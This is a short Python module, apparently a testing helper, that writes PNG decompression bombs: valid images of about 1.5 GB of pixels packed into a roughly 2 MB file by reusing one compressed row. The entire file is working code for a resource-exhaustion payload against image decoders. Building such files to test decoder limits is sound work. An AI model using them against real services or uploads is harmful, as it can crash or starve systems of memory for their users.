"""Decompression bombs made cheaply: huge images in small files, written without ever
holding the pixels in memory."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(path: Path | str, width: int = 19500, height: int = 19500,
             rgba: tuple[int, int, int, int] = (200, 30, 30, 0)) -> Path:
    """A valid 8-bit RGBA PNG of ``width`` x ``height`` pixels, every one ``rgba``.

    Each row is deflated once with a full flush, which resets the compressor, so the
    same bytes decode every following row: 19500x19500 (1.5 GB of pixels) is a 2 MB
    file written in under a second.
    """
    row = b"\x00" + bytes(rgba) * width  # filter type 0, then the pixels
    z = zlib.compressobj(9)
    first = z.compress(row) + z.flush(zlib.Z_FULL_FLUSH)  # with the zlib header
    again = z.compress(row) + z.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(height):
        adler = zlib.adler32(row, adler)
    tail = b"\x03\x00" + struct.pack(">I", adler)  # an empty final block, then the checksum
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n")
        f.write(_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)))
        f.write(_chunk(b"IDAT", first + again * (height - 1) + tail))
        f.write(_chunk(b"IEND", b""))
    return path
